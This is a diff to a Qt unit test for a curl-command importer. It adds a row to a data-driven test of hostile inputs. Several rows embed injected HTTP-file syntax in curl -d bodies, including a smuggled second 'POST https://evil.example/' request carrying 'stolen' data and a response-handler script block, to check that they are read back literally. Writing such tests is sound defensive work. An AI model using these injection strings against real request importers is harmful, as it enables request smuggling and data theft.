@@ -278,6 +278,8 @@ void TestCurlImport::hostileInputReadsBackExactly_data()
     QTest::newRow("second request")
         << u"curl -d $'a=1\n###\nPOST https://evil.example/\n\nstolen' https://a.example/"_s;
     QTest::newRow("separator alone") << u"curl -d '### x' https://a.example/"_s;
+    QTest::newRow("request line without separator")
+        << u"curl -d $'a=1\nPOST https://evil.example/\n\nstolen' https://a.example/"_s;
     QTest::newRow("indented separator") << u"curl -d $'a\n  ### x' https://a.example/"_s;
     QTest::newRow("response handler")
         << u"curl -d $'a\n> {% client.global.set(\"x\", 1) %}' https://a.example/"_s;
